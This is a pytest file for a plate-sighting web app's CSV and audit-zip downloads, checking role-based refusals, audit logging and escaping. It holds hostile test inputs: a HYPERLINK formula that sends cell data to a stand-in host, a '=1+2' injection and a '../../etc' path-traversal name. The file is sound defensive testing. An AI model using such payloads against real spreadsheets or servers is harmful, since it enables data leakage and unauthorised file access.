"""Downloads in the browser (issue 16, point 2): search results and the access log as CSV,
quarterly audit packages as zip files; each to those entitled, refused (403) to others,
audited both ways; CSV cells safe from formula injection. Evidence and sharing
packages (owner only) are covered by tests/compliance/test_packages.py."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

from alert_sightings import camera, sight
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Engine
from tests_web_helpers import Auth

from controller.store import audit as audit_repo
from controller.store import corrections as correction_repo
from controller.store import hits as hit_repo

SEEN = datetime(2026, 11, 2, 8, 30, tzinfo=UTC)
SEARCH = {"mode": "exact", "plate": "7ABC123", "purpose": "Stolen vehicle investigation",
          "case_number": "26-004512", "attest": "yes"}
FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _outcomes(engine: Engine, action: str) -> list[str]:
    return [str(e["outcome"]) for e in reversed(audit_repo.search(engine, action=action))]


def test_search_results_as_csv_for_the_searcher_only(
        app: Flask, auth: Auth, client: FlaskClient, engine: Engine) -> None:
    data_dir = app.config["SIGHTLINE_SETTINGS"].data_dir
    hit = sight(engine, data_dir, camera(engine), "7ABC123", SEEN)[0]
    read_uuid = hit_repo.get_hit(engine, hit)["read_uuid"]
    correction_repo.add_correction(engine, read_uuid, kind="annotation", plate=None,
                                   note=FORMULA, actor="ann.lee", now=SEEN)
    auth.make_user("ann.lee", "officer")
    auth.make_user("bob.ray", "officer")
    auth.make_user("dee.ortiz", "dispatcher")
    auth.login("ann.lee")
    page = auth.post("/search", SEARCH).get_data(as_text=True)
    search_id = audit_repo.search(engine, action="search.exact")[0]["id"]
    assert 'id="results-csv"' in page
    got = auth.post("/packages/search.csv", {"search_id": str(search_id)})
    assert got.status_code == 200 and got.mimetype == "text/csv"
    assert got.headers["Content-Disposition"] == f'attachment; filename="search-{search_id}.csv"'
    header, row = _rows(got.get_data(as_text=True))
    assert header[:2] == ["read", "plate"] and row[0] == read_uuid and row[1] == "7ABC123"
    notes = row[header.index("notes")]
    assert notes == "'" + FORMULA  # a formula typed in a note opens as text
    assert row[header.index("case_number")] == "26-004512"
    entry = audit_repo.search(engine, action="export.search_csv")[0]
    assert (entry["outcome"], entry["purpose"], entry["case_number"]) == (
        "allowed", "Stolen vehicle investigation", "26-004512")
    assert entry["data"]["results"] == 1
    # A new purpose statement: the search ran under another one, and is refused.
    auth.state_purpose("Stolen vehicle investigation", "26-009999")
    assert auth.post("/packages/search.csv", {"search_id": str(search_id)}).status_code == 403
    auth.logout()

    auth.login("bob.ray")  # another searcher: not his search
    auth.state_purpose()
    assert auth.post("/packages/search.csv", {"search_id": str(search_id)}).status_code == 403
    auth.logout()
    assert _outcomes(engine, "export.search_csv") == ["allowed", "denied", "denied"]
    assert audit_repo.search(engine, action="export.search_csv")[0]["actor"] == "bob.ray"

    auth.login("dee.ortiz")  # dispatchers do not search: refused by role, audited
    auth.state_purpose("Hit verification through CLETS (462.7(7))", "CAD 26-1187")
    assert auth.post("/packages/search.csv", {"search_id": str(search_id)}).status_code == 403
    denied = audit_repo.search(engine, action="access.denied")[0]
    assert denied["actor"] == "dee.ortiz"


def test_access_log_as_csv_with_the_filter(auth: Auth, client: FlaskClient,
                                           engine: Engine) -> None:
    auth.make_user("chief", "administrator")
    auth.make_user("ann.lee", "officer")
    auth.login("ann.lee")
    # A purpose statement refused for its case number is logged with what was typed.
    auth.state_purpose("Stolen vehicle investigation", "=1+2")
    assert client.get("/packages/access-log.csv").status_code == 403
    auth.logout()

    auth.login("chief")
    auth.state_purpose("Stolen vehicle investigation", "26-004512")
    page = client.get("/audit?action=purpose.state").get_data(as_text=True)
    assert 'href="/packages/access-log.csv?action=purpose.state"' in page
    got = client.get("/packages/access-log.csv?action=purpose.state")
    assert got.status_code == 200
    assert got.headers["Content-Disposition"] == 'attachment; filename="access-log.csv"'
    header, *rows = _rows(got.get_data(as_text=True))
    assert header[:4] == ["id", "at", "actor", "action"]
    assert {r[header.index("action")] for r in rows} == {"purpose.state"}
    cases = [r[header.index("case_number")] for r in rows]
    assert "'=1+2" in cases and "=1+2" not in cases
    entry = audit_repo.search(engine, action="export.audit_log_csv")[0]
    assert entry["actor"] == "chief" and entry["data"]["action"] == "purpose.state"
    assert entry["data"]["results"] == len(rows)
    bad = client.get("/packages/access-log.csv?since=soon")
    assert bad.status_code == 400 and "From:" in bad.get_data(as_text=True)
    denied = [e for e in audit_repo.search(engine, action="access.denied")
              if e["actor"] == "ann.lee"]
    assert denied, "the officer's refused download is in the log"


def test_audit_package_download_by_the_administrator(auth: Auth, client: FlaskClient,
                                                    engine: Engine) -> None:
    auth.make_user("chief", "administrator")
    auth.make_user("ann.lee", "officer")
    auth.login("chief")
    built = auth.post("/compliance/audits/export", {"quarter": "2026Q3"},
                      follow_redirects=True).get_data(as_text=True)
    assert "Audit package audit-2026Q3 built" in built
    page = client.get("/compliance/audits").get_data(as_text=True)
    assert 'id="download-audit-2026Q3"' in page and "/exports/audit" not in page
    got = auth.post("/packages/audit/download", {"name": "audit-2026Q3"})
    assert got.status_code == 200 and got.mimetype == "application/zip"
    assert "attachment" in got.headers["Content-Disposition"]
    names = zipfile.ZipFile(io.BytesIO(got.data)).namelist()
    got.close()  # the response's spooled zip
    assert "audit-2026Q3/MANIFEST.sha256" in names and "audit-2026Q3/access-log.csv" in names
    assert auth.post("/packages/audit/download", {"name": "../../etc"}).status_code == 400
    assert auth.post("/packages/audit/download", {"name": "audit-2025Q1"}).status_code == 400
    assert _outcomes(engine, "export.download_audit") == ["allowed", "denied"]
    auth.logout()

    auth.login("ann.lee")
    assert auth.post("/packages/audit/download", {"name": "audit-2026Q3"}).status_code == 403
    assert audit_repo.search(engine, action="access.denied")[0]["actor"] == "ann.lee"
